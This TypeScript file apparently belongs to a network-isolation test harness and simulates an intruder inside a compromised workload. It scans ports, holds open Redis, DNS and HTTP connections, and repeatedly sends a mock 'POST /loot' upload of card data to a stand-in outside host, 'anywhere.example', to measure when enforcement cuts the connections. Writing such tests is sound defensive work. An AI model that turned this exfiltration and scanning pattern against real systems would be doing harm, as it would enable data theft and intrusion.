/**
 * The intruder, resident in a workload it has taken over: scans, logs in with stolen credentials, reaches out
 * to the world, and holds connections open to see when they are cut.
 */
import { createSocket } from "node:dgram";
import { connect } from "node:net";
import { ipv4Of, ipv6Of, workloadNamed, WORLD } from "../topology.ts";
import { attemptAll, attemptTwice, dnsQuestion, type Target } from "./lib/attempts.ts";
import { serveControl } from "./lib/control.ts";
import { deepTargets, echoTargets, portTargets, scanTargets } from "./lib/targets.ts";

const [control] = process.argv.slice(2);
if (control === undefined) throw new Error("usage: intruder.ts CONTROL-SOCKET");

/** A connection that keeps asking; `lastAnswer` is the last time the other side was heard. */
interface Held {
  readonly what: string;
  answers: number;
  lastAnswer: number;
}

const held: Held[] = [];
const EVERY_MS = 40;

function holdRedis(address: string, what: string): Promise<void> {
  const state: Held = { what, answers: 0, lastAnswer: 0 };
  held.push(state);
  return new Promise((resolve, reject) => {
    const socket = connect({ host: address, port: 6379 });
    socket.setNoDelay(true);
    socket.on("error", reject);
    socket.on("data", () => {
      state.answers += 1;
      state.lastAnswer = Date.now();
      resolve();
    });
    socket.on("connect", () => {
      setInterval(() => socket.write("PING\r\n"), EVERY_MS);
    });
  });
}

function holdHttp(address: string, port: number, what: string): Promise<void> {
  const state: Held = { what, answers: 0, lastAnswer: 0 };
  held.push(state);
  return new Promise((resolve, reject) => {
    const socket = connect({ host: address, port });
    socket.setNoDelay(true);
    socket.on("error", reject);
    socket.on("data", () => {
      state.answers += 1;
      state.lastAnswer = Date.now();
      resolve();
    });
    socket.on("connect", () => {
      setInterval(
        () =>
          socket.write(`POST /loot HTTP/1.1\r\nhost: ${address}\r\ncontent-length: 4\r\n\r\ncard`),
        EVERY_MS,
      );
    });
  });
}

/** The same source port throughout: one UDP flow in the kernel's eyes. */
function holdDns(address: string, what: string): Promise<void> {
  const state: Held = { what, answers: 0, lastAnswer: 0 };
  held.push(state);
  return new Promise((resolve, reject) => {
    const socket = createSocket(address.includes(":") ? "udp6" : "udp4");
    socket.on("error", reject);
    socket.on("message", () => {
      state.answers += 1;
      state.lastAnswer = Date.now();
      resolve();
    });
    setInterval(() => socket.send(dnsQuestion("db.shop.test"), 53, address), EVERY_MS);
  });
}

function reachTargets(): readonly Target[] {
  return [...portTargets("intruder"), ...echoTargets("intruder"), ...deepTargets("intruder")];
}

// A held socket may end with an error once it is cut; that is what is being measured.
process.on("unhandledRejection", (reason) => process.stderr.write(`${String(reason)}\n`));

await serveControl(control, {
  /** Everything, with the noise of a port scan first. */
  scan: async () => [
    ...(await attemptAll(scanTargets("intruder"))),
    ...(await attemptTwice(reachTargets())),
  ],
  reach: () => attemptTwice(reachTargets()),
  hold: async () => {
    const cache = workloadNamed("cache");
    const dns = workloadNamed("dns");
    const anywhere = WORLD.find((server) => server.name === "anywhere.example");
    if (anywhere === undefined) throw new Error("there is no world");
    await Promise.all([
      holdRedis(ipv4Of(cache), "redis over IPv4"),
      holdRedis(ipv6Of(cache), "redis over IPv6"),
      holdHttp(anywhere.ipv4, 80, "upload to the world over IPv4"),
      holdHttp(anywhere.ipv6, 80, "upload to the world over IPv6"),
      holdDns(ipv4Of(dns), "DNS over IPv4, one UDP flow"),
      holdDns(ipv6Of(dns), "DNS over IPv6, one UDP flow"),
    ]);
    return held;
  },
  held: () => held,
});
